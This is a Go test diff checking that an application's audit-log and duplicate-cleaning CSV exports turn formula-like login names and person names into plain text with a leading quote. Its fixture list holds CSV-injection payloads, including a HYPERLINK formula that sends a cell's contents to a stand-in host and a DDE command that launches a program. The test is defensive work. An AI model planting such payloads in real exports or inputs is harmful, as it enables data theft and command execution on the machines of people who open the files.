@@ -1,6 +1,8 @@
 package web_test
 
 import (
+	"encoding/csv"
+	"net/http"
 	"net/url"
 	"strings"
 	"testing"
@@ -33,4 +35,69 @@ func TestRedirectTargetsStayLocal(t *testing.T) {
 	if loc := res.Header.Get("Location"); loc != "/people?q=a%20b" {
 		t.Errorf("a local next became %q", loc)
 	}
+}
+
+// TestCSVExportsAreNotFormulas: a hostile login name in the audit CSV and a hostile person's
+// name in the cleaning CSV come out as text (a leading single quote), never as a formula.
+func TestCSVExportsAreNotFormulas(t *testing.T) {
+	sqltest.Each(t, func(t *testing.T, db *sqlstore.DB) {
+		f := newFixture(t, db)
+		hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1"}
+		for _, h := range hostile {
+			post(t, browserClient(t), f.srv.URL+"/login", "", url.Values{"username": {h}, "password": {"sai"}})
+		}
+		req, _ := http.NewRequest("GET", f.srv.URL+"/admin/audit.csv?action=login.failed", nil)
+		req.Header.Set("Authorization", "Bearer "+f.adminTok)
+		rows := csvRows(t, req)
+		names := map[string]bool{}
+		for _, row := range rows[1:] {
+			names[row[2]] = true
+		}
+		for _, h := range hostile {
+			want := "'" + strings.ToLower(strings.TrimSpace(h))
+			if !names[want] {
+				t.Errorf("audit CSV: no cell %q among %v", want, names)
+			}
+		}
+		// Two people alike enough to be a duplicate, one named like a formula.
+		for _, given := range []string{"Hùng", "Hùngg"} {
+			p := &canbo.Person{FamilyName: "=1+2", MiddleName: "Văn", GivenName: given, Sex: canbo.Male, BirthDate: "1965-09-02"}
+			if err := db.CreatePerson(sys, p, &canbo.Post{UnitID: f.w1, Title: "@Chuyên viên", Primary: true, From: "2020-01-01"}, nil); err != nil {
+				t.Fatal(err)
+			}
+		}
+		req, _ = http.NewRequest("GET", f.srv.URL+"/cleaning.csv", nil)
+		req.Header.Set("Authorization", "Bearer "+f.adminTok)
+		rows = csvRows(t, req)
+		if len(rows) < 2 {
+			t.Fatalf("cleaning CSV: %q", rows)
+		}
+		for _, row := range rows[1:] {
+			for _, cell := range row {
+				if c := strings.TrimLeft(cell, " "); c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+					t.Errorf("cleaning CSV cell %q is a formula", cell)
+				}
+			}
+			if row[5] != "'=1+2 Văn Hùng" && row[5] != "'=1+2 Văn Hùngg" {
+				t.Errorf("cleaning CSV name cell %q", row[5])
+			}
+		}
+	})
+}
+
+func csvRows(t *testing.T, req *http.Request) [][]string {
+	t.Helper()
+	res, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer res.Body.Close()
+	if res.StatusCode != 200 {
+		t.Fatalf("%s: %d", req.URL, res.StatusCode)
+	}
+	rows, err := csv.NewReader(res.Body).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
 }
